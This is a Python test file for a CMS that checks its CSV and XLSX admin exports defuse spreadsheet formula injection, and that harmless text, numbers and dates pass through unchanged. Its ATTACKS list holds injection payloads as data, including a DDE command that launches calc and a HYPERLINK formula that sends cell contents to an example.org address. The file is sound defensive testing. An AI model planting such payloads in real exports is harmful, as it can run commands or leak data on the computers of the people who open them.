"""Nothing a person typed runs as a formula when staff open an export."""

import csv
from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO, StringIO

import pytest
from openpyxl import load_workbook

from cms.core.spreadsheets import safe_cell
from tests.factories.core import AdministratorFactory, OrganiserFactory, TopicFactory

ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?leak="&A1,"Kliknij")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\x0b=1+1",
    "\x01@SUM(1)",
    "＝1+1",
    "－1",
]
HARMLESS = ["Luboń", "a=b", "1-2", "'=1+1", "", " ", "Śródka – plac", "user@example.org"]
VALUES = [None, 0, -5, 1.5, True, Decimal("-16.92500"), date(2026, 11, 22), datetime(2026, 11, 22, 8, 0, tzinfo=UTC)]


@pytest.mark.parametrize("text", ATTACKS)
def test_formulas_become_text(text):
    cell = safe_cell(text)

    assert cell.startswith("'")
    assert cell[1:] == text.translate({0x0B: None, 0x01: None})


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_stay_as_they_are(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("value", VALUES)
def test_numbers_and_moments_stay_what_they_are(value):
    assert safe_cell(value) is value


def test_objects_are_written_as_their_text(db):
    assert safe_cell(TopicFactory.build(name="=1+1")) == "'=1+1"


def exported(admin_client, address, export_format):
    """Cells of an export as rows of texts, the headings first."""
    response = admin_client.get(address, {"export": export_format})
    content = b"".join(response.streaming_content)
    if export_format == "csv":
        return list(csv.reader(StringIO(content.decode(), newline="")))
    sheet = load_workbook(BytesIO(content)).active
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "inlineStr", "n", "d"}
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.fixture
def administrator(client, db):
    client.force_login(AdministratorFactory())
    return client


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
@pytest.mark.parametrize("attack", ["=1+1", "@SUM(1)", "\x0b=1+1", "-2+3"])
def test_export_of_a_taxonomy_is_guarded(administrator, export_format, attack):
    OrganiserFactory(name=attack, phone="+48 61 000 00 00", municipality__short_name="=2+2")

    rows = exported(administrator, "/admin/core/organiser/", export_format)

    record = dict(zip(rows[0], rows[1], strict=True))
    assert set(record.values()) >= {"'" + attack.replace("\x0b", ""), "'+48 61 000 00 00", "'=2+2"}


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_wagtails_own_reports_are_guarded(administrator, export_format):
    administrator.post("/admin/core/topic/create/", {"name_pl": "=1+1", "slug": "atak", "icon": "map", "sort_order": 1})

    rows = exported(administrator, "/admin/reports/site-history/results/", export_format)

    assert "'=1+1" in rows[1]
